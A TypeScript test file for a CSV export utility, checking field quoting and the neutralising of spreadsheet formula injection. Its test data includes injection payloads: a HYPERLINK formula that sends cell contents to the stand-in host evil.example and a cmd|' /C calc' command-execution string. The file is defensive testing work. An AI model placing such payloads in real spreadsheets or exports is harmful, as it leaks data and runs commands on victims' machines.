import { csvField, csvLine, neutraliseFormula, unneutraliseFormula } from './csv-field.util';

describe('csv fields', () => {
  it('quotes only what needs quoting', () => {
    expect(csvField('+12025550100')).toBe('+12025550100');
    expect(csvField(null)).toBe('');
    expect(csvField('say "stop", please')).toBe('"say ""stop"", please"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvLine(['+1', 2, null, 'a,b'])).toBe('+1,2,,"a,b"\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['+cmd|calc', `'+cmd|calc`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a cell a spreadsheet would run: %j (OWASP CSV injection)', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it.each(['+12025550100', '-5', '+44', '12.5', 'STOP', 'h1:abc', "it's"])('leaves %j as it is', (value) => {
    expect(csvField(value)).toBe(/[",\r\n]/.test(value) ? expect.anything() : value);
    expect(neutraliseFormula(value)).toBe(value);
  });

  it('undoes the neutralisation on import, and nothing else', () => {
    for (const value of ['=HYPERLINK("x")', '@SUM(A1)', '+cmd', '-2+3', '\tx', '+12025550100', 'STOP', "'quoted", "'+12025550100"]) {
      expect(unneutraliseFormula(neutraliseFormula(value))).toBe(value);
    }
  });
});
